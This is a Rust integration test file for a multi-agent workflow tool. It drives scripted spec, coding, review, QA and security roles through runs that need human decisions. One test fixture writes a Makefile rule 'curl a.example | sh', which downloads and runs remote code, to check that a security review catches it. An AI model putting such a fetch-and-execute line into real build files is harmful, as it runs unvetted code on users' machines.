//! The protocol `team`, from the goal to the end of the run.

use tollgate_api::RunDetail;
use tollgate_core::run::Event;
use tollgate_core::run::event::Work;

use crate::play::{Play, Said};

const SPEC: &str = r##""# Spec\n\n## Goals\n\nA greeting.\n\n## Acceptance Criteria\n\n- AC-001\n\n## Definition of Done\n\nAll of it holds.\n""##;
const DESIGN: &str = r##""# Architecture\n\n## Overview\n\nOne script.\n\n## Modules\n\n- greet.sh\n""##;
const REPORT: &str = r##""# Report\n\n## What was done\n\nA greeting.\n\n## How to run\n\n`sh greet.sh`\n\n## How to test\n\n`sh tests/greet.test.sh`\n\n## Known issues\n\nNone.\n""##;
const ACCEPTANCE: &str =
    r#"'{"acceptance_criteria": [{"id": "AC-001", "description": "It greets.", "verify": ["cmd: sh greet.sh"]}]}'"#;

/// What an agent of the team reports: its status, who it says is next, and what else there is under `artifacts` and `gates`.
fn says(status: &str, next: &str, artifacts: &str, gates: &str) -> String {
    let artifacts = if artifacts.is_empty() { String::new() } else { format!(", {artifacts}") };
    let gates = if gates.is_empty() { "needs_tests: false, security_concerns: []" } else { gates };
    format!(
        "report: {{status: {status}, summary: It is {status}., artifacts: {{commands_to_run: [], notes: []{artifacts}}}, \
         gates: {{meets_definition_of_done: true, needs_review: false, {gates}}}, \
         next: {{recommended_agent: {next}, recommended_task_id: meta, reason: It follows.}}}}"
    )
}

fn ok(next: &str) -> String {
    says("OK", next, "", "")
}

/// Writes a file and says so.
fn wrote(path: &str, text: &str) -> String {
    format!("write: {{{path}: \"{text}\\n\"}}, {}", says("OK", "Reviewer", &format!("files_changed: [{path}]"), ""))
}

/// A comment on the script, by which a judge rejects or notes something.
fn comment(severity: &str, message: &str) -> String {
    format!("review_comments: [{{severity: {severity}, file: greet.sh, line: 1, message: {message}}}]")
}

/// A task of the plan; `more` begins with a comma.
fn task(id: &str, kind: &str, file: &str, check: &str, more: &str) -> String {
    format!(
        "  - {{id: {id}, status: not-started, type: {kind}, title: Do {id}, goal: It greets., files_expected: [{file}], acceptance_checks: ['{check}']{more}}}\\n"
    )
}

/// The specification, the acceptance criteria and what else is handed over with them.
fn specified(more: &str) -> String {
    format!("hand_over: {{spec: {SPEC}, acceptance: {ACCEPTANCE}{more}}}")
}

/// A script; each role with its entries.
fn script(roles: &[(&str, &[String])]) -> String {
    let mut text = "script: 1\nroles:\n".to_owned();
    for (role, entries) in roles {
        text.push_str(&format!("  {role}:\n"));
        entries.iter().for_each(|entry| text.push_str(&format!("    - {{{entry}}}\n")));
    }
    text
}

/// Whoever comes after the work is accepted, and finds nothing to do but the report.
fn released() -> [(&'static str, String); 2] {
    [("integrator", ok("Docs")), ("docs", format!("hand_over: {{report: {REPORT}}}, {}", ok("Integrator")))]
}

fn play(mode: &str, roles: &[(&str, &[String])]) -> (Play, Said) {
    begin(Play::new("", &script(roles)), mode)
}

fn begin(mut play: Play, mode: &str) -> (Play, Said) {
    let mode = format!("mode={mode}");
    let said = play.tollgate(&[
        "run",
        "team",
        "--goal",
        "Greet people",
        "--input",
        &mode,
        "--script",
        "../script.yaml",
        "--no-wait",
    ]);
    play.named_by(&said);
    (play, said)
}

/// The brief of a stage's nth dispatch, for a unit where one is named.
pub fn stage_brief(play: &Play, stage: &str, nth: u32, unit: &str) -> String {
    let found = play.events().into_iter().find_map(|event| match event.event {
        Event::AttemptStarted(started) => {
            let is_nth = matches!(started.work, Work::Dispatch { iteration, .. } if iteration == nth);
            (is_nth && *started.stage == *stage && started.instance.contains(unit)).then_some(started.attempt)
        }
        _ => None,
    });
    let path = format!("state/runs/{}/bundles/{}/brief.md", play.run, found.unwrap());
    std::fs::read_to_string(play.world.path(&path)).unwrap()
}

/// The report has one list of changed files: what is gone or has another name is named there.
#[test]
fn what_is_deleted_or_moved_is_a_changed_file() {
    let tasks = format!(
        ", tasks: \"tasks:\\n{}\"",
        task("T-001", "chore", "greet.sh, hello.sh, old.sh", "manual: read it", "")
    );
    let all = r#"files_changed: [old.sh, "hello.sh -> greet.sh"]"#;
    let moves = |named: &str| {
        let said = says("OK", "Reviewer", named, "");
        format!("stage: code-all, delete: [old.sh, hello.sh], write: {{greet.sh: \"echo Hello $1\\n\"}}, {said}")
    };
    let coder = [
        format!("iteration: 1, {}", moves("files_changed: [greet.sh]")),
        format!("stage: code-all, {}", says("OK", "Reviewer", all, "")),
    ];
    let text = script(&[
        ("spec-agent", &[format!("{}, {}", specified(&tasks), ok("Coder"))]),
        ("coder", &coder),
        ("reviewer", &[ok("Orchestrator")]),
    ]);
    let play = Play::new("", &text);
    play.world.write("old.sh", "exit 1\n");
    play.world.write("hello.sh", "echo Hello $1 \n");
    play.world.commit("a greeting under another name");
    let (play, said) = begin(play, "lean");
    said.exits(0).says("hello.sh changed, but the report does not name it, and 1 more");
    assert_eq!(play.dispatched("coder"), 2);
    let asked = stage_brief(&play, "code-all", 2, "");
    for path in ["hello.sh", "old.sh"] {
        assert!(asked.contains(&format!("`{path}` changed before, and no report names it")), "{asked}");
    }
    assert_eq!((play.file("hello.sh"), play.file("old.sh")), (None, None));
}

#[test]
fn lean_fixes_the_notes_that_it_passed_with() {
    let noted = says("OK", "Orchestrator", &comment("minor", "The name is not quoted."), "");
    let tasks = format!(", tasks: \"tasks:\\n{}\"", task("T-001", "chore", "greet.sh", "manual: read it", ""));
    let (play, said) = play(
        "lean",
        &[
            ("spec-agent", &[format!("{}, {}", specified(&tasks), ok("Coder"))]),
            (
                "coder",
                &[
                    format!("stage: code-all, {}", wrote("greet.sh", "echo Hello $1")),
                    format!("stage: fix-review, {}", wrote("greet.sh", "echo Hello")),
                ],
            ),
            ("reviewer", &[format!("iteration: 1, {noted}"), ok("Orchestrator")]),
        ],
    );
    said.exits(4).says("It passed with notes.").says("The name is not quoted.");
    assert_eq!(play.dispatched("qa") + play.dispatched("security") + play.dispatched("architect"), 0);
    play.decide(&["dec_1", "fix"]).exits(0).says("succeeded").says("1 of 2 criteria by commands");
    // Who fixes them is shown them, and who noted them looks again.
    assert!(stage_brief(&play, "fix-review", 1, "").contains("The name is not quoted."));
    assert_eq!((play.dispatched("coder"), play.dispatched("reviewer")), (2, 2));
    assert_eq!(play.changed(), "A\tgreet.sh\n");
    play.holds();
}

#[test]
fn lean_becomes_full_with_a_corrected_design_qa_and_security_by_typed_fields() {
    let lean = format!(", tasks: \"tasks:\\n{}\"", task("T-001", "feat", "all.sh", "manual: read it", ""));
    let plan = [
        task("T-010", "feat", "greet.sh, tests/**", "manual: read it", ""),
        task("T-011", "chore", "safe.sh", "cmd: sh safe.sh", ", risk_flags: [security], depends_on: [T-010]"),
    ]
    .concat();
    let plan =
        format!("hand_over: {{tasks: \"tasks:\\n{plan}retired:\\n  - {{id: T-001, why: It is two tasks.}}\\n\"}}");
    let medium = "findings: [{severity: medium, file: safe.sh, line: 1, description: It prints a secret.}]";
    let [integrator, docs] = released();
    let (play, said) = play(
        "lean",
        &[
            (
                "spec-agent",
                &[
                    format!("stage: intake-lean, {}, {}", specified(&lean), ok("Coder")),
                    format!("{}, {}", specified(""), ok("Researcher")),
                ],
            ),
            (
                "researcher",
                &[format!("hand_over: {{research/shells.md: \"POSIX is enough.\\n\"}}, {}", ok("Architect"))],
            ),
            ("architect", &[format!("hand_over: {{architecture: {DESIGN}}}, {}", ok("Designer"))]),
            ("designer", &[format!("hand_over: {{design/greeting.md: \"Hello.\\n\"}}, {}", ok("Planner"))]),
            ("planner", &[format!("{plan}, {}", ok("Coder"))]),
            (
                "coder",
                &[
                    format!("stage: code-all, {}", says("BLOCKED", "Architect", "", "")),
                    format!("unit: T-010, iteration: 1, {}", says("BLOCKED", "Orchestrator", "", "")),
                    format!("unit: T-010, {}", wrote("greet.sh", "echo Hello")),
                    format!("unit: T-011, stage: code, {}", wrote("safe.sh", "echo secret")),
                    format!("unit: T-011, stage: fix-security, {}", wrote("safe.sh", "true")),
                ],
            ),
            ("reviewer", &[ok("Orchestrator")]),
            ("qa", &[wrote("tests/greet.test.sh", "sh greet.sh")]),
            (
                "security",
                &[format!("iteration: 1, {}", says("NEEDS_DECISION", "Orchestrator", medium, "")), ok("Orchestrator")],
            ),
            (integrator.0, &[integrator.1]),
            (docs.0, &[docs.1]),
        ],
    );
    said.exits(4).says("larger than the lean way allows");
    play.decide(&["dec_1", "full", "--no-wait"]).exits(4).says("Is this what is to be built?");
    assert_eq!((play.dispatched("researcher"), play.dispatched("designer")), (1, 1));
    // Each asking is a decision of its own, and only the last one counts.
    play.decide(&["dec_2", "change-architecture", "--text", "Name the tests.", "--no-wait"]).exits(4);
    assert!(stage_brief(&play, "correct-architecture", 1, "").contains("Name the tests."));
    play.decide(&["dec_3", "approve", "--no-wait"]).exits(4).says("When is the work reviewed?");
    play.decide(&["dec_4", "per-batch", "--no-wait"]).exits(4).says("It is BLOCKED.");
    play.decide(&["dec_5", "--text", "In English.", "--no-wait"]).exits(4).says("Fix it now").says("secret");
    assert!(stage_brief(&play, "code", 2, "T-010").contains("In English."));
    // A feat is for QA; the task with a risk is for Security, whoever built it.
    assert_eq!((play.dispatched("qa"), play.dispatched("security")), (1, 1));
    let said = play.decide(&["dec_6", "fix", "--no-wait"]).exits(0).says("succeeded");
    let brief = stage_brief(&play, "fix-security", 1, "T-011");
    assert!(brief.contains("It prints a secret."), "{brief}");
    // What the second plan takes back stands there with its reason.
    said.says("without T-001");
    let (lines, _) = play.world.json(&format!("show {} --json", play.run));
    let detail: RunDetail = serde_json::from_value(lines[0].clone()).unwrap();
    let retired = detail.units.iter().find(|unit| unit.name == "T-001").unwrap();
    assert_eq!(retired.reason, "taken back by a later plan: It is two tasks.");
    let matrix = play.tollgate(&["show", "RUN", "--matrix"]).exits(0).out;
    let has = |line: [&str; 4]| matrix.lines().any(|found| line.iter().all(|part| found.contains(part)));
    assert!(has(["T-010  T-010.1  passed", "report pass", "fresh", "reviewer"]), "{matrix}");
    assert!(has(["  ", "command pass", "fresh", "tollgate"]), "{matrix}");
    assert!(play.count(|event| matches!(event, Event::CommandsRan(_))) > 0);
    assert!(
        play.file("safe.sh").is_some() && play.file("tests/greet.test.sh").is_some() && play.file("all.sh").is_none()
    );
    play.holds();
}

#[test]
fn a_single_final_review_gives_up_only_by_a_card_and_plans_again() {
    let first = [
        task("T-001", "chore", "greet.sh", "manual: read it", ""),
        task("T-002", "docs", "more.sh", "manual: read that", ", depends_on: [T-001]"),
    ]
    .concat();
    let again = [
        task("T-001", "chore", "greet.sh", "manual: read it", ""),
        task("T-003", "docs", "less.sh", "manual: read less", ", depends_on: [T-001]"),
    ]
    .concat();
    let rejected = says("BLOCKED", "Coder", &comment("blocker", "It greets nobody."), "");
    let [integrator, docs] = released();
    let (play, said) = play(
        "full",
        &[
            ("spec-agent", &[format!("{}, {}", specified(""), ok("Architect"))]),
            ("architect", &[format!("hand_over: {{architecture: {DESIGN}}}, {}", ok("Planner"))]),
            (
                "planner",
                &[
                    format!("stage: plan, hand_over: {{tasks: \"tasks:\\n{first}\"}}, {}", ok("Coder")),
                    format!(
                        "hand_over: {{tasks: \"tasks:\\n{again}retired:\\n  - {{id: T-002, why: Less is enough.}}\\n\"}}, {}",
                        ok("Coder")
                    ),
                ],
            ),
            (
                "coder",
                &[
                    format!("unit: T-001, {}", wrote("greet.sh", "echo 0")),
                    format!("unit: T-002, {}", says("BLOCKED", "Planner", "", "")),
                    format!("unit: T-003, {}", wrote("less.sh", "echo less")),
                    format!("stage: fix-review, iteration: 1, {}", wrote("greet.sh", "echo 1")),
                    format!("stage: fix-review, iteration: 2, {}", wrote("greet.sh", "echo 2")),
                    format!("stage: fix-review, iteration: 3, {}", wrote("greet.sh", "echo 3")),
                    format!("stage: fix-review, {}", wrote("greet.sh", "echo Hello")),
                ],
            ),
            ("reviewer", &[format!("iteration: 5, {}", ok("Orchestrator")), rejected]),
            (integrator.0, &[integrator.1]),
            (docs.0, &[docs.1]),
        ],
    );
    said.exits(4).says("Is this what is to be built?");
    play.decide(&["dec_1", "approve", "--no-wait"]).exits(4).says("When is the work reviewed?");
    // Nobody reviews before everything is built; what was planned and is not needed is never built.
    let again = play.decide(&["dec_2", "single-final", "--no-wait"]).exits(4);
    // A second plan reaches a person with what it takes back, before anybody works on it.
    again.says("Is this the plan to go on with?").says("{id: T-002, why: Less is enough.}");
    play.decide(&["dec_3", "again", "--text", "Even less.", "--no-wait"])
        .exits(4)
        .says("Is this the plan to go on with?");
    assert!(stage_brief(&play, "replan", 2, "").contains("Even less."));
    assert_eq!((play.dispatched("coder"), play.dispatched("planner")), (2, 3));
    let stuck = play.decide(&["dec_4", "approve", "--no-wait"]).exits(4).says("Trying again did not pass.");
    for option in ["retry", "guide", "simplify", "accept", "drop"] {
        assert!(stuck.err.contains(&format!("dec_5 {option}")), "{option} in {}", stuck.err);
    }
    assert_eq!((play.dispatched("reviewer"), play.dispatched("qa"), play.dispatched("planner")), (4, 0, 3));
    let said = play.decide(&["dec_5", "guide", "--text", "Say Hello.", "--no-wait"]).exits(0).says("succeeded");
    assert!(said.err.contains("T-002"), "{}", said.err);
    assert!(play.file("less.sh").is_some() && play.file("more.sh").is_none());
    play.holds();
}

/// The roles that looked at a task.
fn judges_of(play: &Play, unit: &str) -> Vec<String> {
    let roles = play.events().into_iter().filter_map(|event| match event.event {
        Event::AttemptStarted(started) => match started.work {
            Work::Dispatch { role, .. } if started.instance.contains(unit) && &*role != "coder" => {
                Some(role.to_string())
            }
            _ => None,
        },
        _ => None,
    });
    roles.collect()
}

/// Whoever worked on a task or judged it says in typed fields who else has to look, and words in a text never do.
#[test]
fn what_reports_say_in_typed_fields_has_qa_and_security_look_and_a_person_answers_for_the_risk() {
    let file = |id: &str| if id == "T-001" { "greet.sh".to_owned() } else { format!("{}.sh", id.to_lowercase()) };
    let tasks = ["T-001", "T-002", "T-003", "T-004", "T-005"].map(|id| {
        let file = file(id);
        task(id, "chore", &file, "manual: read it", "")
    });
    let coded = |id: &str, next: &str, gates: &str| {
        let file = file(id);
        let said = says("OK", next, &format!("files_changed: [{file}]"), gates);
        format!("unit: {id}, write: {{{file}: \"true\\n\"}}, {said}")
    };
    let medium = "findings: [{severity: medium, file: t-002.sh, line: 1, description: The port is open.}]";
    let [integrator, docs] = released();
    let (play, said) = play(
        "full",
        &[
            ("spec-agent", &[format!("{}, {}", specified(""), ok("Architect"))]),
            ("architect", &[format!("hand_over: {{architecture: {DESIGN}}}, {}", ok("Planner"))]),
            ("designer", &[format!("hand_over: {{design/greeting.md: \"Hello.\\n\"}}, {}", ok("Planner"))]),
            ("planner", &[format!("hand_over: {{tasks: \"tasks:\\n{}\"}}, {}", tasks.concat(), ok("Coder"))]),
            (
                "coder",
                &[
                    coded("T-001", "Reviewer", "needs_tests: true, security_concerns: []"),
                    coded("T-002", "Reviewer", "needs_tests: false, security_concerns: [It opens a port.]"),
                    coded("T-003", "Reviewer", ""),
                    coded("T-004", "Reviewer", ""),
                    // In words alone it asks nobody.
                    coded("T-005", "Reviewer", "").replace("It is OK.", "QA and Security should look at this port."),
                ],
            ),
            (
                "reviewer",
                &[format!("unit: T-003, {}", ok("QA")), format!("unit: T-004, {}", ok("Security")), ok("Orchestrator")],
            ),
            ("qa", &[ok("Orchestrator")]),
            (
                "security",
                &[format!("unit: T-002, {}", says("NEEDS_DECISION", "Orchestrator", medium, "")), ok("Orchestrator")],
            ),
            (integrator.0, &[integrator.1]),
            (docs.0, &[docs.1]),
        ],
    );
    said.exits(4).says("Is this what is to be built?");
    // The third invalid answer cancels it, under the name that the format has for that; `retry` asks anew.
    for answer in ["yes", "fine"] {
        play.decide(&["dec_1", answer, "--no-wait"]).exits(2).says("does not offer");
    }
    play.decide(&["dec_1", "ok", "--no-wait"]).exits(2);
    let held = play.tollgate(&["show", "RUN"]).exits(0).out;
    assert!(held.contains("mandatory_user_decision_missing: 3 answers were invalid"), "{held}");
    play.tollgate(&["retry", "RUN", "--no-wait"]).exits(4).says("Is this what is to be built?");
    play.decide(&["dec_2", "change-spec", "--text", "Name the port.", "--no-wait"]).exits(4);
    assert!(stage_brief(&play, "correct-spec", 1, "").contains("Name the port."));
    play.decide(&["dec_3", "change-design", "--text", "Bigger.", "--no-wait"]).exits(4);
    assert!(stage_brief(&play, "correct-design", 1, "").contains("Bigger."));
    // Five tasks are many.
    play.decide(&["dec_4", "approve", "--no-wait"]).exits(4).says("After each task (recommended)");
    play.decide(&["dec_5", "per-batch", "--no-wait"]).exits(4).says("The port is open.").says("Accept the risk");
    // Whose word the risk stands on is said at the end.
    play.decide(&["dec_6", "accept", "--no-wait"]).exits(0).says("a person waived the judgement of security of T-002");
    let looked = |unit| judges_of(&play, unit);
    assert_eq!(looked("T-001"), ["reviewer", "qa"]);
    assert_eq!(looked("T-002"), ["reviewer", "security"]);
    assert_eq!(looked("T-003"), ["reviewer", "qa"]);
    assert_eq!(looked("T-004"), ["reviewer", "security"]);
    assert_eq!(looked("T-005"), ["reviewer"]);
    // Who is asked is shown why; the reviewer, who is asked anyway, is not shown the coder's word.
    let concern = "[security_concern; by coder] It opens a port.";
    assert!(stage_brief(&play, "security", 1, "T-002").contains(concern));
    assert!(stage_brief(&play, "secure", 1, "").contains("[security_concern; by coder; of T-002] It opens a port."));
    assert!(stage_brief(&play, "qa", 1, "T-001").contains("[needs_tests; by coder]"));
    assert!(stage_brief(&play, "qa", 1, "T-003").contains("[recommends_qa; by reviewer]"));
    assert!(!stage_brief(&play, "review", 1, "T-002").contains("It opens a port."));
    // What was reported of tasks is the run's, too: Security looks at the whole once.
    assert_eq!(play.dispatched("security"), 3);
    play.holds();
}

/// A concern of somebody who works for the run is no task's: Security looks at the whole after the last report, and again after the repair.
#[test]
fn a_concern_that_is_reported_for_the_run_has_security_look_at_the_whole() {
    let plan = task("T-001", "chore", "greet.sh", "manual: read it", "");
    let downloads = says(
        "OK",
        "Docs",
        "files_changed: [Makefile]",
        "needs_tests: false, security_concerns: [The Makefile runs what it downloads.]",
    );
    let high = "findings: [{severity: high, file: Makefile, line: 1, description: Anybody may serve that.}]";
    let [integrator, docs] = released();
    let (play, said) = play(
        "full",
        &[
            ("spec-agent", &[format!("{}, {}", specified(""), ok("Architect"))]),
            ("architect", &[format!("hand_over: {{architecture: {DESIGN}}}, {}", ok("Planner"))]),
            ("planner", &[format!("hand_over: {{tasks: \"tasks:\\n{plan}\"}}, {}", ok("Coder"))]),
            (
                "coder",
                &[
                    format!("stage: final-fix, {}", wrote("Makefile", "all: greet.sh")),
                    format!("unit: T-001, {}", wrote("greet.sh", "echo Hello")),
                ],
            ),
            ("reviewer", &[ok("Orchestrator")]),
            ("security", &[format!("iteration: 1, {}", says("BLOCKED", "Coder", high, "")), ok("Orchestrator")]),
            (
                integrator.0,
                &[
                    format!(
                        "stage: integrate, iteration: 1, write: {{Makefile: \"all: ; curl a.example | sh\\n\"}}, {downloads}"
                    ),
                    integrator.1,
                ],
            ),
            (docs.0, &[docs.1]),
        ],
    );
    said.exits(4);
    play.decide(&["dec_1", "approve", "--no-wait"]).exits(4).says("T-001, status: not-started");
    play.decide(&["dec_2", "per-batch", "--no-wait"]).exits(0).says("succeeded");
    assert!(stage_brief(&play, "final-fix", 1, "").contains("Anybody may serve that."));
    assert_eq!(judges_of(&play, "T-001"), ["reviewer"]);
    assert_eq!((play.dispatched("security"), play.dispatched("docs")), (2, 2));
    assert_eq!(play.file("Makefile").as_deref(), Some("all: greet.sh\n"));
    play.holds();
}

/// After three repairs a person may take the work with what is known of it, or give it up.
#[test]
fn a_review_that_never_passes_is_accepted_with_its_issues_or_given_up() {
    let ends = [("accept", 0, "ada waived AC-001, T-001.1 and fnd_1"), ("drop", 1, "closed without success: given up")];
    for (answer, exit, says_so) in ends {
        let rejected = says("BLOCKED", "Coder", &comment("blocker", "It greets nobody."), "");
        let tasks = format!(", tasks: \"tasks:\\n{}\"", task("T-001", "chore", "greet.sh", "manual: read it", ""));
        let fixed =
            |nth: u32| format!("stage: fix-review, iteration: {nth}, {}", wrote("greet.sh", &format!("echo {nth}")));
        let (play, said) = play(
            "lean",
            &[
                ("spec-agent", &[format!("{}, {}", specified(&tasks), ok("Coder"))]),
                ("coder", &[format!("stage: code-all, {}", wrote("greet.sh", "echo 0")), fixed(1), fixed(2), fixed(3)]),
                ("reviewer", &[rejected]),
            ],
        );
        said.exits(4).says("Trying again did not pass.");
        play.decide(&["dec_1", answer, "--no-wait"]).exits(exit).says(says_so);
        play.holds();
    }
}

/// A person may say that a lean run becomes a full one: no answer leads to a role without a worker.
#[test]
fn a_lean_run_names_every_role_of_both_ways_that_has_no_worker() {
    let mut play = Play::new("", &script(&[("spec-agent", &[says("BLOCKED", "SpecAgent", "", "")])]));
    let file = play.world.path("script.yaml").display().to_string();
    let config = format!("[worker.actor]\nadapter = \"script\"\ncommand = [\"{file}\"]\n");
    std::fs::create_dir_all(play.world.path("home/.config/tollgate")).unwrap();
    std::fs::write(play.world.path("home/.config/tollgate/config.toml"), config).unwrap();
    let lean = ["run", "team", "--goal", "Greet people", "--input", "mode=lean", "--no-wait"];
    let roles = ["spec-agent", "coder", "reviewer", "qa", "security"].map(|role| format!("{role}=actor"));
    let named: Vec<&str> = roles.iter().flat_map(|role| ["--worker", role]).collect();
    let said = play.tollgate(&[&lean[..], &named].concat()).exits(1);
    said.says("roles `architect`, `designer`, `docs`, `integrator`, `planner`, `researcher` have no worker")
        .says("name a worker for all of them: `--worker claude`");
    let said = play.tollgate(&[&lean[..], &["--worker", "actor"]].concat());
    play.named_by(&said);
    said.says("spec-agent works at `intake-lean`");
}
